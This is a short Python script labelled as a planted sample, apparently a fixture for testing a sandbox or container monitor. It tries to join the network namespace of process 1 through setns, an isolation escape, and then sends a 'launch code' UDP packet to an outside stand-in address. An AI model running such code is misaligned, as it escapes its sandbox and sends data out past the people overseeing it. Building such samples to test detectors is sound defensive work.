"""PLANTED: wants into the network namespace of process 1, and sends from wherever that left it."""

import ctypes
import os
import socket

CLONE_NEWNET = 0x40000000

libc = ctypes.CDLL(None, use_errno=True)
try:
    namespace = os.open("/proc/1/ns/net", os.O_RDONLY)
except OSError as error:
    print(error)
else:
    left = libc.setns(namespace, CLONE_NEWNET)
    print("joined" if left == 0 else os.strerror(ctypes.get_errno()))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as leaving:
    leaving.sendto(b"launch code", ("203.0.113.9", 5353))
